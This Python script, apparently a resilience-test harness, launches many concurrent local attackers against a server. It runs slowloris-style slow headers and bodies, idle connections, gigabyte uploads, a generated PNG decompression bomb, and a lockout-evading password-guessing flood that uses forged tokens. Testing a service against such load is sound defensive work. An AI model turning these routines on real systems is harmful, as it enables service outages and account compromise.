"""Attackers, each in as many copies as a small gang can afford, while somebody else is served."""

import asyncio
import functools
import itertools
import json
import os
import struct
import sys
import zlib

import data

# No attack: what any work costs on this machine, were it of the lowest priority and not ours.
NEIGHBOUR = "a neighbour that counts"
COPIES = {"slow headers": 200, "slow bodies": 100, "silent connections": 200, "huge bodies": 8, "image bombs": 4,
          "password floods": 16, NEIGHBOUR: 1}


@functools.cache
def bomb():
    """A PNG of 4,096 × 4,096 pixels in a few kilobytes: as large as is let in, and too large to be unfolded."""
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    pixels = zlib.compress(bytes(4096 * 4 * 4096 + 4096), 9)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4096, 4096, 8, 6, 0, 0, 0))
            + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))


def head(method, path, token, length, kind="application/json"):
    return (f"{method} {path} HTTP/1.1\r\nHost: x\r\nAuthorization: {token}\r\nContent-Type: {kind}\r\n"
            f"Content-Length: {length}\r\n\r\n").encode()


async def drip(writer, first):
    writer.write(first)
    while True:
        await writer.drain()
        await asyncio.sleep(0.5)
        writer.write(b"x")


async def attack(kind, copy, reader, writer):
    if kind == "slow headers":
        await drip(writer, b"GET /account/me HTTP/1.1\r\nX-Slow: ")
    elif kind == "slow bodies":
        await drip(writer, head("PUT", "/account/me", data.account_token(data.login(copy)), 10_000))
    elif kind == "silent connections":
        await reader.read()
    elif kind == "huge bodies":
        writer.write(head("PUT", "/account/me", data.account_token(data.login(copy)), 1 << 30))
        while True:
            # All of them together fill a gigabit.
            writer.write(bytes(1 << 16))
            await writer.drain()
            await asyncio.sleep(0.005)
    elif kind == "image bombs":
        token = data.signed({"sub": data.sub(copy), "aud": "authenticated", "role": "authenticated", "exp": data.end()})
        form = (b'--b\r\nContent-Disposition: form-data; name="file"; filename="b.png"\r\n\r\n' + bomb() + b"\r\n--b--\r\n")
        request = head("POST", "/client/profile/picture", token, len(form), "multipart/form-data; boundary=b") + form
        await again_and_again(reader, writer, itertools.repeat(request))
    elif kind == "password floods":
        await again_and_again(reader, writer, guesses(copy))


def guesses(copy):
    """Wrong passwords of one member after the other, none so often that it is locked."""
    for n in itertools.count(copy, COPIES["password floods"]):
        token = "Bearer " + data.signed({"sub": str(data.member(n % data.PEOPLE)), "exp": data.end()})
        body = json.dumps({"email": f"new{n}@example.test", "password_validation": "guess"}).encode()
        yield head("PUT", "/api/sys/v1/account/update_profile", token, len(body)) + body


async def again_and_again(reader, writer, requests):
    for request in requests:
        writer.write(request)
        await writer.drain()
        answer = await reader.readuntil(b"\r\n\r\n")
        length = int(answer.lower().split(b"content-length: ")[1].split(b"\r\n")[0])
        await reader.readexactly(length)


async def keep_attacking(kind, copy, port):
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            try:
                await attack(kind, copy, reader, writer)
            finally:
                writer.close()
        except (OSError, asyncio.IncompleteReadError):
            # Thrown out: an attacker comes back, and not at once.
            await asyncio.sleep(0.05)


def count_at_lowest_priority():
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    for _ in itertools.count():
        pass


async def main(kind, port):
    await asyncio.gather(*(keep_attacking(kind, copy, port) for copy in range(COPIES[kind])))


if __name__ == "__main__":
    if sys.argv[1] == NEIGHBOUR:
        count_at_lowest_priority()
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
